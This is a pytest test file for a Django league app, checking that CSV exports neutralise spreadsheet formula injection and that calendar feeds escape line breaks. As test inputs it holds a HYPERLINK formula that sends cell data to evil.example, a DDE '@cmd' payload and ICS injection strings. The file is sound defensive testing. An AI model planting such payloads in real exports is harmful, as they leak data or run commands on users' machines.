"""Exports that other programs open (issue 15): spreadsheet-safe CSV cells, RFC 5545
text in the calendar feed."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from league.csv_cells import safe_cell
from league.events.calendar import club_calendar, escape
from league.models import Player
from tests.league.factories import ClubOrganiserFactory, EventFactory, lay_out, registered_players
from tests.results.factories import played_event

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "' =1"),
        ("李伟", "李伟"),
        ("a=b", "a=b"),
        ("line\nbreak", "line break"),
        (-3, -3),
    ],
)
def test_safe_cell(raw: Any, shown: Any) -> None:
    assert safe_cell(raw) == shown


def test_standings_csv_neutralises_formulas(client: Client) -> None:
    ev = played_event(n_players=12)
    Player.objects.filter(pk=ev.players[0].pk).update(display_name=HOSTILE)
    ev.play(1, 1, ev.players[:12], seed=11)
    response = client.get(reverse("results:standings-csv", args=[ev.club.slug, ev.event.slug]))
    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    assert "'" + HOSTILE in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_draw_csv_and_api_export_neutralise_formulas(client: Client) -> None:
    organiser = ClubOrganiserFactory().user
    event = EventFactory(club=organiser.organised_clubs.get().club)
    players = registered_players(event, 8)
    Player.objects.filter(pk=players[0].pk).update(display_name="@cmd|' /C calc'!A0")
    lay_out(event.rounds.get(number=1), players, per_table=8, status="released")
    client.force_login(organiser)
    for url in (reverse("draw-csv", args=[event.pk]), f"/api/v1/events/{event.pk}/export/"):
        text = client.get(url).content.decode().lstrip("\ufeff")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert "'@cmd|' /C calc'!A0" in cells, url
        assert not any(c.startswith("@") for c in cells), url


def test_ics_text_escapes_every_line_break() -> None:
    assert escape("Hall A\r\nFloor 2") == "Hall A\\nFloor 2"
    assert escape("Hall A\rLOCATION:evil") == "Hall A\\nLOCATION:evil"
    assert escape("a;b,c\\d") == "a\\;b\\,c\\\\d"
    assert escape("bell\x07") == "bell"


def test_ics_feed_keeps_a_hostile_venue_on_one_line() -> None:
    organiser = ClubOrganiserFactory().user
    club = organiser.organised_clubs.get().club
    event = EventFactory(
        club=club, venue="Teahouse\rBEGIN:VEVENT\rSUMMARY:fake", status="registration"
    )
    body = club_calendar(club, [event], base_url="https://tianhei.example")
    lines = body.split("\r\n")
    assert "\r" not in "".join(lines) and "\n" not in "".join(lines)
    assert sum(1 for line in lines if line.startswith("LOCATION:")) == len(
        [line for line in lines if line == "BEGIN:VEVENT"]
    )
    assert not any(line.startswith("SUMMARY:fake") for line in lines)
